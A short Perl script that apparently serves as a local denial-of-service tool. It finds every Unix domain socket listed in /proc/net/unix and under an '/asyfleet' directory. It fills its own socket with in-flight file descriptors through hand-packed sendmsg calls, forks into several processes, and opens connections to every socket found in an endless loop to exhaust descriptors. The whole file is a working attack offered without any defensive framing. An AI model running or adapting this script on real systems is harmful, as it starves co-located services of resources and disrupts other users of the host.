# Connects to every socket that there is and says nothing, again and again, and leaves as many descriptors under way as the
# kernel lets its user have.
use strict;
use IO::Handle;
use Socket;
$| = 1;
my @held;

sub hold {
    my $address = shift;
    socket(my $socket, AF_UNIX, SOCK_STREAM, 0) or return;
    $socket->blocking(0);
    connect($socket, $address);
    push @held, $socket;
}

# struct msghdr with one byte and 100 descriptors; sendmsg is 46 on x86_64 and 211 elsewhere.
sub send_descriptors {
    my $to = shift;
    my $byte = 'x';
    my $data = pack('PQ', $byte, 1);
    my $control = pack('QLLl100', 16 + 400, SOL_SOCKET, 1, (0) x 100);
    my $message = pack('QLx4PQPQLx4', 0, 0, $data, 1, $control, length $control, 0);
    return syscall(`uname -m` =~ /x86_64/ ? 46 : 211, fileno $to, $message, 0x40) == 1;
}

open(my $table, '<', '/proc/net/unix');
my @addresses = map { pack('Sxa*', AF_UNIX, $_) } map { m{\s@(\S+)$} } <$table>;
push @addresses, map { pack_sockaddr_un($_) } grep { -S $_ } glob '/asyfleet/*/*';
socket(my $listener, AF_UNIX, SOCK_STREAM, 0);
bind($listener, pack('Sxa*', AF_UNIX, "mine$$"));
listen($listener, 10);
socket(my $sender, AF_UNIX, SOCK_STREAM, 0);
connect($sender, pack('Sxa*', AF_UNIX, "mine$$"));
my $sent = 0;
$sent++ while $sent < 200 && send_descriptors($sender);
fork() for 1 .. 3;
while (1) {
    for (1 .. 10) {
        hold($_) for @addresses;
    }
    select(undef, undef, undef, 0.3);
    @held = ();
}
